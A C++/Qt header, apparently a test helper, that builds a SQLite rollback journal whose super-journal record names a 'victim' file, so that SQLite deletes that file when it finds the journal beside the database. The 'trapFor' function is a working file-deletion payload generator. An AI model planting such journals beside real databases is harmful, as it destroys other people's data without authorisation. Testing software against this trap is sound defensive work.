#pragma once

#include <QByteArray>
#include <QFile>
#include <QString>
#include <QtEndian>

namespace seduta {

inline QByteArray bigEndian(quint32 value)
{
    QByteArray bytes(4, 0);
    qToBigEndian(value, bytes.data());
    return bytes;
}

inline QByteArray journalMagic()
{
    return QByteArray::fromHex("d9d505f920a163d7");
}

constexpr quint32 checksumStart = 0x12345678;

/// The header of a rollback journal of SQLite.
inline QByteArray journalHeader(quint32 records, quint32 pages, quint32 sector = 512, quint32 page = 4096)
{
    return (journalMagic() + bigEndian(records) + bigEndian(checksumStart) + bigEndian(pages) + bigEndian(sector)
            + bigEndian(page))
        .leftJustified(512, '\0');
}

/// A journal that ends with the record of a super-journal: SQLite, given the archive beside it, deletes the file it names.
inline QByteArray trapFor(const QString &victim, quint32 pages = 25)
{
    const QByteArray name = QFile::encodeName(victim);
    quint32 sum = 0;
    for (const char byte : name)
        sum += quint32(qint8(byte));
    return journalHeader(0, pages) + bigEndian(0x40000000 / 4096 + 1) + name + bigEndian(quint32(name.size()))
        + bigEndian(sum) + journalMagic();
}

}
